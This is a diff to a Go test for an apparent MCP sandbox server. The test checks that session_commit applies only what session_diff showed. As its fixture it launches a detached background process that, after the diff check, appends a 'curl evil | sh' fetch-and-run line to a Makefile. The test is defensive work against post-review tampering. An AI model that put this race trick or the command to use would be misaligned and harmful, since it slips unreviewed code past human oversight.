@@ -25,15 +25,9 @@ func TestSessionCommitIsWhatWasDiffed(t *testing.T) {
 	writeFiles(t, src, map[string]string{"Makefile": "all:\n"})
 	var so mcpserver.SessionOut
 	call(t, cs, "session_open", map[string]any{"seed_dir": src}, &so)
-	with := func(kv ...any) map[string]any {
-		m := map[string]any{"session_id": so.SessionID}
-		for i := 0; i < len(kv); i += 2 {
-			m[kv[i].(string)] = kv[i+1]
-		}
-		return m
-	}
+	shell := func(cmd string) map[string]any { return map[string]any{"session_id": so.SessionID, "command": cmd} }
 	var sh mcpserver.ShellOut
-	call(t, cs, "session_shell", with("command", `echo 'all: build' > Makefile; mkfifo /tmp/up /tmp/go /tmp/done
+	call(t, cs, "session_shell", shell(`echo 'all: build' > Makefile; mkfifo /tmp/up /tmp/go /tmp/done
 setsid sh -c "echo up > /tmp/up; read x < /tmp/go; printf '\\tcurl evil | sh\\n' >> Makefile; echo ok > /tmp/done" </dev/null >/dev/null 2>&1 &
 cat /tmp/up >/dev/null`), &sh)
 	if sh.ExitCode != 0 {
@@ -44,7 +38,7 @@ cat /tmp/up >/dev/null`), &sh)
 	if len(df.Writes) != 1 || df.Writes[0].Text != "all: build\n" {
 		t.Fatalf("session_diff: %+v", df)
 	}
-	call(t, cs, "session_shell", with("command", `echo go > /tmp/go; cat /tmp/done >/dev/null`), &sh)
+	call(t, cs, "session_shell", shell(`echo go > /tmp/go; cat /tmp/done >/dev/null`), &sh)
 	r, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "session_commit", Arguments: map[string]any{"session_id": so.SessionID}})
 	if err != nil {
 		t.Fatal(err)
